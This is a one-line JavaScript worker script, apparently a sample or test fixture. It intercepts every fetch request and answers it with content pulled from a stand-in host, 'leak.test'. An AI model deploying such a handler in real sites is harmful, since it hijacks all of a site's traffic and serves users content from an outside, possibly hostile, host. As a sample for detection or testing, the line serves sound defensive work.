addEventListener('fetch', e => e.respondWith(fetch('http://leak.test/service')))
